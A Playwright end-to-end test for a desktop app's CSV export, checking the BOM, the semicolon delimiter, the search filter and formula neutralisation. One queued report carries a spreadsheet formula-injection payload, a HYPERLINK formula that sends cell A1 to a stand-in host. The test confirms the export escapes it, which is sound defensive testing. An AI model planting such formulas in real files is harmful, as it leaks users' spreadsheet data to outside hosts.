import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { test, expect } from './app-fixture.ts';
import { openNav, queueReport, signInToSimulator } from './ui-steps.ts';

// Export CSV from the window. In the app the main process shows a save dialog and writes
// the file; in the preview the same handler and writer write it into the preview's own
// folder, and the browser downloads it from there.

test('Export CSV writes the log for Excel: BOM, ";", formulas neutralised, the filter applied', async ({ page, app }) => {
  await page.goto(app.url);
  const welcome = page.getByRole('heading', { level: 1, name: 'Welcome to Usage Place Reporter' });
  const newReport = page.getByRole('heading', { level: 1, name: 'New report' });
  await expect(welcome.or(newReport)).toBeVisible();
  if (await welcome.isVisible()) await signInToSimulator(page, app);

  const hyperlink = '=HYPERLINK("http://x.invalid/?"&A1,"open")';
  const id = await queueReport(page, { status: 'Not disconnected', usageplace: 'E2E-EXPORT-1', description: hyperlink });
  await queueReport(page, { status: 'Connected', usageplace: 'E2E-EXPORT-2' });
  await queueReport(page, { status: 'Connected', usageplace: 'E2E-OTHER' });

  await openNav(page, 'Outbox');
  await expect(page.getByRole('button', { name: /^E2E-OTHER\s*,/ })).toBeVisible();
  // Exported at once, as a quick clerk would: the export takes the search box as it reads.
  await page.getByLabel('Search', { exact: true }).fill('E2E-EXPORT');
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const download = await downloading;
  const fileName = download.suggestedFilename();
  expect(fileName).toMatch(/^usage-place-reports-\d{4}-\d{2}-\d{2}(-\d+)?\.csv$/);
  await expect(page.getByTestId('export-result')).toHaveText(`Exported 2 reports to ${fileName}.`);

  const bytes = readFileSync((await download.path())!);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString('utf8');
  expect(text.split('\r\n')[0]).toBe('\uFEFFstatus;usageplacecode;customernumber;contract_no;invoices;time;description;id;state;attempts;' +
    'last_error;http_status;created_at;sent_at;environment;cid;corrects_id;superseded_by');
  const rows = parse(text, { bom: true, columns: true, delimiter: ';' }) as Record<string, string>[];
  expect(rows.map((r) => r.usageplacecode)).toEqual(['E2E-EXPORT-1', 'E2E-EXPORT-2']);
  expect(rows[0]).toMatchObject({ id, status: 'notdisconnected', description: `'${hyperlink}` });
  // The same bytes the handler wrote into the preview's folder (the app's save-dialog path).
  expect(readFileSync(join(app.dataDir, 'exports', fileName))).toEqual(bytes);
});
